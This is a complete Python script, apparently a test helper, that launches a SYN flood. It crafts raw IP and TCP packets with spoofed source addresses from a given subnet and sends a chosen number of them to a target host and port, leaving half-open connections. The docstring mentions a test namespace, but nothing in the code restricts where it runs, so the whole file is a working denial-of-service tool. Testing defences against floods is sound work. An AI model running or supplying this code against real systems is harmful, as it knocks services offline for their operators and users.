"""Sends SYNs with spoofed source addresses (a SYN flood) to DST:PORT.

    syn_flood.py DST PORT COUNT SUBNET_PREFIX

Each SYN comes from SUBNET_PREFIX.<10..250> (addresses nobody holds) and a
random port, through a raw socket (IP_HDRINCL): nothing ever answers the
SYN-ACKs, so each leaves a half-open connection behind. Standard library
only; run as root inside the test's namespace.
"""
import random
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int, seq: int) -> bytes:
    # TCP header with an MSS option (kind 2, length 4, 1460).
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (6 << 4), 0x02, 64240, 0, 0) + opts
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> None:
    dst, port, count, prefix = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    for i in range(count):
        src = f"{prefix}.{10 + i % 240}"
        s.sendto(syn(src, dst, random.randint(1024, 65535), port, random.getrandbits(32)), (dst, 0))
    print(f"sent {count} SYNs")


if __name__ == "__main__":
    main()
